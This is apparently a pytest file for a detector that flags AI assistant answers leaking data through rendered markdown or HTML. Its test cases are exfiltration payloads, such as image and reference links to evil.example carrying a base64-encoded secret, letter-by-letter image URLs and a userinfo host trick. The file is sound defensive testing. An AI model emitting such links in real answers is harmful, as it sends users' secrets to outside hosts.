"""Answers that carry data out when they are shown, by what they carry and by whom the policy lists."""

from __future__ import annotations

import base64
from collections.abc import Awaitable, Callable

import pytest

from detectors.addresses import may_hold_addresses
from detectors.builtin.rendering import DETECTOR
from detectors.carried import Request
from detectors.guard import Guard
from detectors.types import Direction, InspectionContext, Kind, Origin, Place, Segment
from detectors.views import ViewBuilder

Look = Callable[..., Awaitable[dict[str, float]]]
SECRET = "The staff discount code is GULL-4471."
DATA = base64.b64encode(SECRET.encode()).decode()
PLAIN = Guard(request=Request(["Hello"], [SECRET]))
LISTING = Guard(request=Request(["Hello"], [SECRET]), hosts=("cdn.example", "*.cdn.example"))


@pytest.fixture
def look(builder: ViewBuilder) -> Look:
    async def look(text: str, guard: Guard = PLAIN) -> dict[str, float]:
        segment = Segment(Direction.RESPONSE, Origin.ASSISTANT, Kind.TEXT, Place.VALUE, "/content", text)
        (hits,) = await DETECTOR.inspect([builder.build(segment).views], InspectionContext(1, guard))
        found: dict[str, float] = {}
        for hit in hits:
            found[hit.rule_id] = max(found.get(hit.rule_id, 0), hit.confidence)
            assert hit.span is None or "http" in text[hit.span.start : hit.span.end].lower()
        return found

    return look


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        (f"![x](https://evil.example/?d={DATA})", {"PS-EXF-101": 0.95}),
        (f"![x][a] and later\n\n[a]: https://evil.example/?d={DATA}", {"PS-EXF-101": 0.95}),
        (f"[a]: https://evil.example/?d={DATA}", {"PS-EXF-101": 0.95}),
        (f"[x](https://evil.example/?d={DATA})", {"PS-EXF-102": 0.85}),
        (f"&#60;img src='https&colon;//evil.example/?d={DATA}'&gt;", {"PS-EXF-101": 0.95}),
        (" ".join(f"![](https://evil.example/{letter}.png)" for letter in "secret"), {"PS-EXF-101": 0.4}),
        ("![x](https://images.example/a.png) [docs](https://docs.example/?q=install)", {}),
        ("![x](/local.png) and 4 // 2 &amp; more", {}),
    ],
)
async def test_data_in_addresses_is_found_by_how_they_are_shown(
    text: str, expected: dict[str, float], look: Look
) -> None:
    assert await look(text) == expected


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        (f"![x](https://cdn.example/?d={DATA})", {}),
        ("![x](https://a.cdn.example/a.png)", {}),
        ("![x](https://other.example/a.png)", {"PS-EXF-103": 0.8}),
        ("![x][a]\n\n[a]: https://other.example/a.png", {"PS-EXF-103": 0.8}),
        ("[x][a]\n\n[a]: https://other.example/a.png", {}),
        ("[x](https://other.example/page)", {}),
        (f"![x](https://other.example/?d={DATA})", {"PS-EXF-101": 0.95}),
        ("![x](https://cdn.example@other.example/a.png)", {"PS-EXF-103": 0.8}),
    ],
)
async def test_with_hosts_listed_nothing_may_be_fetched_from_others(
    text: str, expected: dict[str, float], look: Look
) -> None:
    assert await look(text, LISTING) == expected


async def test_beyond_many_addresses_the_claim_has_no_place(look: Look) -> None:
    assert await look("https://a.example/b " * 1001) == {"PS-EXF-101": 0.5}


def test_requests_and_texts_without_addresses_are_not_read() -> None:
    texts = {"![x](https://a.example)": True, "Ordinary: an answer.": False, "&lt;img": True}
    for text, expected in texts.items():
        assert may_hold_addresses(text) is expected
        segment = Segment(Direction.RESPONSE, Origin.ASSISTANT, Kind.TEXT, Place.VALUE, "/content", text)
        assert DETECTOR.reads(segment, InspectionContext()) is expected
    asked = Segment(Direction.REQUEST, Origin.USER, Kind.TEXT, Place.VALUE, "/content", "https://a.example")
    assert not DETECTOR.reads(asked, InspectionContext())
